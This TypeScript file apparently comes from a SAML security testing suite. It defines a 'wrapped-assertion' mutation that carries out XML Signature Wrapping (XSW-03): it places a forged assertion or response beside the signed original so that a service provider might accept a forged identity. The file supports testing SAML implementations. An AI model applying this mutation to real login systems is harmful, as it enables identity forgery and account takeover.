import { assertionIn, copyOf, edit, forgeElement, remove, renewId, signatureOf } from './bend.ts'
import { defineMutation } from './mutation.ts'

/**
 * A forged part where the SP may look first, the signed original beside it, its signature still good. Where the Assertion is
 * signed, a forged Assertion stands before it; where only the Response is, a forged Response wraps the original (as XSW-02).
 * Somorovsky et al., "On Breaking SAML" (2012).
 */
export const wrappedAssertion = defineMutation({
  id: 'wrapped-assertion',
  title: 'Forged assertion beside the signed one',
  stage: 'signed',
  requirement: 'XSW-03',
  forgesIdentity: true,
  apply: (message, context) =>
    edit(message, (response) => {
      const assertion = assertionIn(response)
      if (signatureOf(assertion)) {
        remove(signatureOf(response))
        const forged = copyOf(assertion)
        remove(signatureOf(forged))
        renewId(forged)
        forgeElement(forged, context)
        response.insertBefore(forged, assertion)
      } else {
        const original = copyOf(response)
        remove(signatureOf(original))
        forgeElement(response, context)
        renewId(response)
        renewId(assertion)
        response.insertBefore(original, signatureOf(response) ?? null)
      }
    }),
})
